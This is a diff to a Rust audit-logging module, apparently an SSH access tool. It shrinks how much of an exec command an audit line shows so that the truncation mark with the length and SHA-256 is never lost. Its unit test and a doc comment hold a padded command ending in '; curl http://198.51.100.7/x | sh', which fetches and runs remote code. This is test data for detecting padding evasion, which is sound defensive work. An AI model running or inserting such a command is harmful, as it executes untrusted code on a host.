@@ -48,13 +48,14 @@ pub const MAX_SESSION_CHANNELS: usize = 10;
 /// The longest command line of an `exec` request, in bytes.
 pub const MAX_EXEC_COMMAND: usize = 64 * 1024;
 
-/// How much of a command an audit line shows.
-const SHOWN_COMMAND: usize = 1024;
+/// How much of a command an audit line shows whole: with the mark a longer one gets, under
+/// the audit log's cut of every string (`MAX_FIELD_BYTES`, 256), so the mark is never lost.
+const SHOWN_COMMAND: usize = 128;
 
 /// A command as an audit line shows it: whole up to [`SHOWN_COMMAND`] bytes; a longer one
 /// first says its length and SHA-256, then its first bytes, so that what ran past the cut (a
 /// command padded with 1,100 spaces, then `; curl …`) is not hidden behind a line that looks
-/// whole. (The audit log cuts every string longer still, keeping its start: the mark
+/// whole. (The audit log cuts every string past 256 bytes, keeping its start: the mark
 /// stays.)
 fn shown_command(command: &[u8]) -> String {
     let head = String::from_utf8_lossy(command.get(..SHOWN_COMMAND).unwrap_or(command));
@@ -1097,20 +1098,25 @@ mod tests {
     #[test]
     fn a_long_command_is_shown_cut_with_its_length_and_digest() {
         assert_eq!(shown_command(b"id"), "id");
-        let mut long = vec![b' '; 1100];
-        long.extend_from_slice(b"; curl http://198.51.100.7/x | sh");
-        let shown = shown_command(&long);
-        let digest = ring::digest::digest(&ring::digest::SHA256, &long);
-        let hex: String = digest.as_ref().iter().map(|b| format!("{b:02x}")).collect();
-        let mark = format!("[cut: 1133 bytes in all, sha256 {hex}] ");
-        assert!(shown.starts_with(&mark), "{shown}");
+        for pad in [200, 900, 1100] {
+            let mut long = vec![b' '; pad];
+            long.extend_from_slice(b"; curl http://198.51.100.7/x | sh");
+            let shown = shown_command(&long);
+            let digest = ring::digest::digest(&ring::digest::SHA256, &long);
+            let hex: String = digest.as_ref().iter().map(|b| format!("{b:02x}")).collect();
+            let mark = format!("[cut: {} bytes in all, sha256 {hex}] ", long.len());
+            assert!(shown.starts_with(&mark), "{shown}");
+            assert!(shown.ends_with(&format!("{}…", " ".repeat(128))), "{shown}");
+            // The audit log's own cut leaves it whole, the mark included.
+            assert_eq!(ippin_access::audit::log::cap_field(&shown), shown);
+        }
+        assert_eq!(shown_command(&[b'a'; 128]), "a".repeat(128));
+        // Not ASCII: the mark still comes first, whatever the log's cut keeps.
+        let shown = shown_command(&[0xff; 300]);
         assert!(
-            shown.ends_with(&format!("{}…", " ".repeat(1024))),
-            "{shown}"
+            ippin_access::audit::log::cap_field(&shown)
+                .starts_with("[cut: 300 bytes in all, sha256 ")
         );
-        // The audit log's own cut keeps the mark.
-        assert!(ippin_access::audit::log::cap_field(&shown).starts_with(&mark));
-        assert_eq!(shown_command(&[b'a'; 1024]), "a".repeat(1024));
     }
 
     #[test]
